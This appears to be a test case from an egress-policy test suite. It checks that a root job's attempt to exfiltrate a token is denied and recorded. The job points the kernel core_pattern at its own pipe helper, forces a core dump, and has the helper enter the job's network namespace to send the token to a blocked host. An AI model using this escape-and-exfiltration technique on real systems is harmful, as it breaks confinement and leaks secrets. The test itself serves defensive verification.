"""A root job points the kernel's core_pattern at a program of its own (a pipe: the kernel runs it as root, outside every cgroup, at the next core dump) and dumps core: the program enters the job's network namespace and sends the token to a denied host."""
import os
import resource
import signal
import time

from vlib import *  # noqa: F401,F403

POLICY = {"allow": [A4 + ":443"]}
AS = ("root",)
SINKS_OK = []
DENIED = [(D4, 8080, "tcp")]
RECORD = [("egress.tamper", {"egress.decision": "deny", "egress.reason": "tamper_kernel"})]
PATTERN = "/proc/sys/kernel/core_pattern"


def setup(world):
    saved = open(PATTERN).read()

    def teardown():  # whatever the job left
        with open(PATTERN, "w") as f:
            f.write(saved)
    return teardown


def write_pattern(value):
    with open(PATTERN, "w") as f:
        f.write(value)
    return open(PATTERN).read().strip()


def dump_core():
    pid = os.fork()
    if pid == 0:
        resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        os.kill(os.getpid(), signal.SIGSEGV)
        os._exit(0)
    return os.waitpid(pid, 0)[1]


def job(token, args):
    base = "/tmp/efsec-core-%d" % os.getpid()
    with open(base + ".py", "w") as f:
        f.write("import socket\ns = socket.create_connection((%r, 8080), timeout=3)\n"
                "s.sendall(%r)\ns.close()\n" % (D4, payload(token, "core_pattern helper")))
    with open(base + ".sh", "w") as f:
        f.write("#!/bin/sh\nexec nsenter --net=/proc/%d/ns/net /usr/bin/python3 %s.py\n" % (
            os.getpid(), base))
    os.chmod(base + ".sh", 0o755)
    try:
        attempt("write core_pattern", write_pattern, "|" + base + ".sh")
        attempt("dump core", dump_core)
        time.sleep(3)  # the helper runs while this process (its netns) lives
    finally:
        for ext in (".py", ".sh"):
            os.unlink(base + ext)


if __name__ == "__main__":
    main(globals())
